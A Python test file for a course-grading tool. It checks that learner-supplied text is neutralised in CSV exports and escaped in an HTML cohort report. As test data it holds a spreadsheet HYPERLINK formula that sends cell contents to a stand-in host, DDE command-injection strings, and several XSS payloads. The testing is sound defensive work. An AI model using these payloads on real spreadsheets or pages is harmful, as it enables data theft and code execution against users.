"""Learner-supplied text is only ever text: escaped in every HTML the tools write, and
never a formula in a CSV cell.

Names, e-mail addresses, registration numbers and written answers come from
learners. The CSV exports (`grader export`, its `--modules-out`, and
`certificates.csv`, all written by `export.write_csv`) give any cell that a
spreadsheet would read as a formula a leading ' (see `export.FORMULA_START` for
the characters, look-alikes included). The cohort report (`grader report`) is
opened in a real browser: text built to run script shows as text, and nothing
runs. The facilitator's pack is built from the course content alone (it takes
no submissions or records), so no learner text reaches it.
"""

from __future__ import annotations

import csv
import html.parser
import inspect
import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from grader.cli import main
from grader.gradebook.export import FORMULA_START, LEADING_SPACE, neutralise
from helpers.gradebook import FIXTURE_COURSE, RIGHT, fixture_case, make_submission, released_course_dir, write_notebook

CASE = fixture_case()
ROOT = str(FIXTURE_COURSE)
MARK = "window.__escaped_text_ran__"
SCRIPTED = [
    f"<script>{MARK}=1</script>",
    f'<img src="x" onerror="{MARK}=2">',
    f'"><svg onload="{MARK}=3">',
    f"</title><script>{MARK}=4</script>",
    f'<iframe srcdoc="<script>parent.{MARK}=5</script>">',
]


# --- CSV ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "start",
    [
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\uff1d",
        "\uff0b",
        "\uff0d",
        "\uff20",
        "\ufe66",
        "\ufe62",
        "\ufe63",
        "\ufe6b",
        "\u2212",
    ],
    ids=lambda s: f"U+{ord(s[0]):04X}",
)
def test_a_cell_that_could_be_a_formula_gets_a_leading_quote(start):
    text = f'{start}HYPERLINK("http://x.example/?"&A1,"click")'
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("space", [" ", "  ", "\n", "\u00a0", "\u3000", " \t"])
def test_leading_spaces_are_looked_through(space):
    assert neutralise(space + "=1+1") == "'" + space + "=1+1"


@pytest.mark.parametrize(
    "text", ["Zoë O'Brien", "dana.doctor@nhs.net", "GMC 7654321", "50.0", "2026-12-01T10:00:00+00:00", "", "a=b", "x-y"]
)
def test_ordinary_text_is_left_as_it_is(text):
    assert neutralise(text) == text


@settings(deadline=None)  # no wall-clock limit in tests
@given(st.text())
def test_any_text_is_made_safe_and_nothing_is_lost(text):
    cell = neutralise(text)
    assert cell in (text, "'" + text)
    assert not cell.lstrip(LEADING_SPACE).startswith(FORMULA_START) or cell.startswith("'")


def test_grader_export_writes_no_formula_from_learner_text(tmp_path):
    starts = ["=", "+", "-", "@", "\t", "\uff1d", "\ufe62", "\u2212", " ="]
    inbox = tmp_path / "in"
    learners = []
    for n, start in enumerate(starts):
        email_start = start.strip() if start.strip() not in {"", "@"} else ""
        learner = {
            "name": f"{start}cmd|' /C calc'!A0",
            "email": f"{email_start}learner{n}@x.example",
            "registration": f"{start}SUM(1+1)*cmd|' /C calc'!A0",
            "profession": "nurse",
        }
        learners.append(learner)
        write_notebook(
            inbox / f"{n}.ipynb",
            make_submission(CASE, {**RIGHT, "case-reflect": f"{start}1+1 low mood, review"}, learner),
        )
    gradebook = released_course_dir(tmp_path / "gradebook")
    assert main(["collect", str(inbox), "--root", ROOT, "--course-dir", str(gradebook)]) == 0
    assert main(["autograde", "--root", ROOT, "--course-dir", str(gradebook), "--quiet"]) == 0
    out = tmp_path / "grades.csv"
    assert main(["export", "--root", ROOT, "--course-dir", str(gradebook), "--out", str(out)]) == 0
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    assert len(rows) == 1 + len(starts)
    for row in rows[1:]:
        for value in row:
            assert value.startswith("'") or not value.lstrip(LEADING_SPACE).startswith(FORMULA_START), value
    names = {row[1] for row in rows[1:]}
    # kept whole after the quote (a name's outer spaces and tabs are trimmed when the submission is read)
    assert names == {neutralise(learner["name"].strip()) for learner in learners}
    assert all(name.startswith("'") for name in names if name.lstrip(LEADING_SPACE)[:1] not in {"c"})


def test_every_csv_the_tools_write_goes_through_the_neutraliser():
    """grader's CSV writers: export.write_csv, used by `grader export` and `grader certificates`."""
    import grader.cli
    import grader.reports.certificates

    for module in (grader.cli, grader.reports.certificates):
        source = inspect.getsource(module)
        assert "csv.writer" not in source and "csv.DictWriter" not in source, f"{module.__name__} writes CSV itself"


# --- HTML: the cohort report -------------------------------------------------------------------


class Tags(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.handlers: list[tuple[str, str]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.handlers += [(tag, name) for name, _ in attrs if name.lower().startswith("on")]

    def handle_data(self, data):
        self.text.append(data)


@pytest.fixture
def hostile_report(tmp_path) -> Path:
    """A cohort report over learners whose details are markup and script."""
    inbox = tmp_path / "in"
    for n, text in enumerate(SCRIPTED):
        learner = {
            "name": f"{text} {n}",
            "email": f"learner{n}@x.example",
            "registration": text[:60],
            "profession": "nurse",
        }
        write_notebook(
            inbox / f"{n}.ipynb", make_submission(CASE, {**RIGHT, "case-reflect": f"low mood, review {text}"}, learner)
        )
    gradebook = released_course_dir(tmp_path / "gradebook")
    assert main(["collect", str(inbox), "--root", ROOT, "--course-dir", str(gradebook)]) == 0
    assert main(["autograde", "--root", ROOT, "--course-dir", str(gradebook), "--quiet"]) == 0
    assert main(["report", "--root", ROOT, "--course-dir", str(gradebook), "--out", str(tmp_path / "report")]) == 0
    return tmp_path / "report" / "index.html"


def test_the_cohort_report_escapes_learner_text(hostile_report):
    page = hostile_report.read_text(encoding="utf-8")
    parsed = Tags()
    parsed.feed(page)
    assert "script" not in parsed.tags and "iframe" not in parsed.tags and "img" not in parsed.tags
    assert parsed.handlers == [], "no event-handler attribute anywhere"
    shown = "".join(parsed.text)
    for n, text in enumerate(SCRIPTED):
        assert f"{text} {n}" in shown, "each learner's name is shown, as the text it is"


@pytest.mark.browser
def test_the_cohort_report_runs_no_learner_text_in_a_browser(hostile_report, page):
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(hostile_report.as_uri())
    page.wait_for_load_state("load")
    assert page.evaluate(f"typeof {MARK}") == "undefined"
    assert dialogs == []
    assert page.locator("script, iframe, img[onerror], svg[onload]").count() == 0


def test_the_facilitators_pack_takes_no_learner_data():
    """Built from the course content only: it reads no gradebook, submissions or records."""
    import grader.facilitator

    source = inspect.getsource(grader.facilitator)
    assert "grader.gradebook" not in source and "grader.reports" not in source
    assert not {"course_dir", "db_url", "records", "submissions"} & set(
        inspect.signature(grader.facilitator.write_project).parameters
    )
